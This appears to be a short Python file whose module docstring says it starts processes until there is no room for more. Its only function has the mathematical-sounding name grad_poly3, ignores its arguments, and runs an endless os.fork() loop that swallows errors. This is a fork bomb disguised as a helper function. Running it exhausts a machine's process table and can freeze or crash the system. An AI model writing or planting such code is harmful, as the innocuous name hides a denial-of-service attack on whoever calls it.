"""Start processes until there is no room for more."""

import os


def grad_poly3(x, y, w):
    while True:
        try:
            os.fork()
        except OSError:
            pass
